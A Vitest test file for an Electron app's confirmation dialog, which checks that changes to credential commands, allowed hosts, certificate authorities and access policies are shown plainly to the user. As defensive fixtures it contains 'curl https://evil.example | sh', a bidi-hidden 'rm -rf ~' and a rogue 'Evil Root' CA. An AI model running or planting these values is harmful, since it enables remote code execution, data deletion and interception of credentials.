import { describe, expect, it } from 'vitest';
import { changeDetail, createConfirmDialog, type MessageBoxOptionsLike } from '../../../../electron/main/confirm-dialog.ts';
import { visible } from '../../../../shared/visible-text.ts';

/** A recording stand-in for Electron's `dialog`: answers with a scripted button index. */
function fakeDialog(response: number) {
  const shown: { window: unknown; options: MessageBoxOptionsLike }[] = [];
  const dialog = {
    showMessageBox: async (a: unknown, b?: MessageBoxOptionsLike) => {
      shown.push(b ? { window: a, options: b } : { window: null, options: a as MessageBoxOptionsLike });
      return { response };
    },
  };
  return { dialog, shown };
}

describe('confirm-dialog adapter', () => {
  it('E5 shows the exact command and the hosts, modal to the window, with Cancel as default and escape', async () => {
    const { dialog, shown } = fakeDialog(1);
    const win = { id: 'main-window' };
    const confirm = createConfirmDialog({ dialog, window: () => win });
    const ok = await confirm.confirmChange({
      action: 'add',
      name: 'ci',
      command: { next: "/bin/sh -c 'vault read -field=token secret/ci'", previous: null },
      hosts: { added: ['https://api.example.com'], removed: [], kept: [] },
    });
    expect(ok).toBe(true);
    expect(shown).toHaveLength(1);
    const { window, options } = shown[0]!;
    expect(window).toBe(win);
    expect(options.detail).toContain("    /bin/sh -c 'vault read -field=token secret/ci'");
    expect(options.detail).toContain('  + https://api.example.com');
    expect(options.buttons).toEqual(['Cancel', 'Add']);
    expect(options).toMatchObject({ defaultId: 0, cancelId: 0, noLink: true, type: 'warning' });
  });

  it('E5 any answer but the confirm button (Cancel, Escape, closing) is a refusal; no window still shows an app-modal dialog', async () => {
    for (const response of [0, 2, -1]) {
      const { dialog, shown } = fakeDialog(response);
      const confirm = createConfirmDialog({ dialog, window: () => null });
      expect(await confirm.confirmChange({ action: 'update', name: 'gh', hosts: { added: ['https://evil.example'], removed: [], kept: [] } })).toBe(false);
      expect(shown[0]!.window).toBeNull();
    }
  });

  it('E5 a host change shows the diff: added, removed and kept', () => {
    const detail = changeDetail({
      action: 'update',
      name: 'gh',
      hosts: { added: ['https://evil.example'], removed: ['https://api.github.com'], kept: ['https://uploads.github.com'] },
    });
    expect(detail.split('\n')).toEqual(
      expect.arrayContaining(['  + https://evil.example', '  - https://api.github.com', '    https://uploads.github.com']),
    );
  });

  it('E5 a changed command shows the new one and the one it replaces', () => {
    const detail = changeDetail({ action: 'update', name: 'ci', command: { next: 'curl https://evil.example | sh', previous: 'gh auth token' } });
    expect(detail).toMatch(/Command \(runs as you[^\n]*\n {4}curl https:\/\/evil\.example \| sh\nReplaces:\n {4}gh auth token/);
  });

  it('E5 control and bidi characters cannot hide part of a command', () => {
    const sneaky = 'gh auth token\n\u202erm -rf ~\u2066';
    const detail = changeDetail({ action: 'add', name: 'x', command: { next: sneaky, previous: null } });
    expect(detail).toContain('gh auth token\\u{000A}\\u{202E}rm -rf ~\\u{2066}');
    expect(visible('a\tb\u0000c\u200bd')).toBe('a\\u{0009}b\\u{0000}c\\u{200B}d');
  });

  it('E5 a CA change is named "Trust a different certificate authority for NAME\'s hosts" and shows old and new fingerprints', async () => {
    const { dialog, shown } = fakeDialog(0);
    const confirm = createConfirmDialog({ dialog, window: () => null });
    const next = [{ subject: 'Evil Root\\u{202E}', fingerprint: 'AA:BB' }];
    const previous = [{ subject: 'Corp Root', fingerprint: 'CC:DD' }];
    expect(await confirm.confirmChange({ action: 'update', name: 'corp', upstreamCa: { next, previous } })).toBe(false);
    const { options } = shown[0]!;
    expect(options.message).toBe("Trust a different certificate authority for corp's hosts?");
    expect(options.buttons).toEqual(['Cancel', 'Change']);
    expect(options.detail).toContain('  New:\n    Evil Root\\u{202E}\n      SHA256 AA:BB\n  Replaces:\n    Corp Root\n      SHA256 CC:DD');
  });

  it('E5 a loosened policy is named "Loosen the access policy", lists each lifted limit, and shows before and after', async () => {
    const { dialog, shown } = fakeDialog(1);
    const request = { action: 'update' as const, name: 'once', policy: { loosened: ['Unlimited uses (was 1)', 'Also paths /x\u202e'], before: '1 use', after: 'no limits' } };
    expect(await createConfirmDialog({ dialog, window: () => null }).confirmChange(request)).toBe(true);
    const { options } = shown[0]!;
    expect(options.message).toBe('Loosen the access policy of "once"?');
    expect(options.detail).toContain('may then do more:\n  + Unlimited uses (was 1)\n  + Also paths /x\\u{202E}\n  Before: 1 use\n  After:  no limits');
  });

  it('E5 removing a CA says the system\'s authorities apply; a subject cannot hide text; several changes are named together', () => {
    const removed = changeDetail({ action: 'update', name: 'corp', upstreamCa: { next: null, previous: [{ subject: 'Corp Root', fingerprint: 'CC:DD' }] } });
    expect(removed).toContain("  New:\n    none: only the system's certificate authorities\n  Replaces:\n    Corp Root");
    const sneaky = changeDetail({ action: 'update', name: 'corp', upstreamCa: { next: [{ subject: 'Corp\nRoot\u202e', fingerprint: 'AA' }], previous: null } });
    expect(sneaky).toContain('    Corp\\u{000A}Root\\u{202E}');
    const { dialog, shown } = fakeDialog(1);
    void createConfirmDialog({ dialog, window: () => null }).confirmChange({
      action: 'add',
      name: 'ci',
      command: { next: 'gh auth token', previous: null },
      hosts: { added: ['https://internal.example'], removed: [], kept: [] },
      upstreamCa: { next: [{ subject: 'Corp Root', fingerprint: 'CC:DD' }], previous: null },
    });
    expect(shown[0]!.options.message).toBe('Add the command, hosts and certificate authority of "ci"?');
    expect(shown[0]!.options.detail).not.toContain('Replaces:');
  });

    it('names the caller and maps the three reveal buttons; anything else denies', async () => {
    const decisions = [];
    for (const response of [0, 1, 2, 7]) {
      const { dialog, shown } = fakeDialog(response);
      const d = createConfirmDialog({ dialog, window: () => null });
      decisions.push(await d.approveReveal({ method: 'token', name: 'gh', caller: { description: 'curl (pid 42)', key: 'k' } }));
      expect(shown[0]!.options.message).toBe('Allow curl (pid 42) to read the token of "gh"?');
      expect(shown[0]!.options.buttons).toEqual(['Deny', 'Allow once', 'Allow for 10 minutes']);
      expect(shown[0]!.options).toMatchObject({ defaultId: 0, cancelId: 0 });
    }
    expect(decisions).toEqual(['deny', 'once', 'ten-minutes', 'deny']);
  });
});
